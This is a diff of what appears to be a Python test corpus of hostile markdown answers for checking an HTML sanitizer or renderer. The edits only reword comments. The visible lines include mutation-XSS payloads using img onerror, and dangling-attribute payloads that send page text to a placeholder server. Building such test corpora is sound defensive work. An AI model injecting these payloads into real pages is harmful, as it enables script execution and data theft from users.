@@ -1,6 +1,6 @@
 """Answers that try to run script, to load something, or to leave their cell: (name, markdown).
 
-`{hit}` stands for the address of a server that counts who asks; scripts set `window.pwned`.
+`{hit}` stands for the address of a server that counts requests; scripts set `window.pwned`.
 """
 
 # ruff: noqa: E501 — hostile text is easier to read in one piece
@@ -163,7 +163,7 @@ _SHAPES = {
 }
 
 
-# Text whose meaning changes when a browser parses it for the second time, or in another namespace.
+# Text that a browser parses differently the second time, or in another namespace.
 _MUTATIONS = {
     "noscript in an attribute": f'<noscript><p title="</noscript><img src=x onerror={_PWN}>">',
     "textarea in an attribute": f'<textarea><p title="</textarea><img src=x onerror={_PWN}>">',
@@ -186,7 +186,7 @@ _MUTATIONS = {
     "tag split by a hard line break": f"<img src=x  \nonerror={_PWN}\\\n>",
 }
 
-# Text that is to be joined with what follows it, or that counts on what the page already has.
+# Text that relies on the text after it, or on elements of the page.
 _LEFT_OPEN = {
     "attribute left open": '<img src="{hit}/dangling?',
     "unquoted attribute left open": "<img src={hit}/unquoted?",
@@ -283,6 +283,6 @@ _FORMS = {
 
 
 def corpus(hit: str) -> list[tuple[str, str]]:
-    """Every answer, with the counting server's address put in."""
+    """Return all answers, with the counting server's address filled in."""
     groups = (_TAGS, _ADDRESSES, _MATHS, _SHAPES, _MUTATIONS, _LEFT_OPEN, _ODD_ADDRESSES, _FORMS)
     return [(name, text.replace("{hit}", hit)) for group in groups for name, text in group.items()]
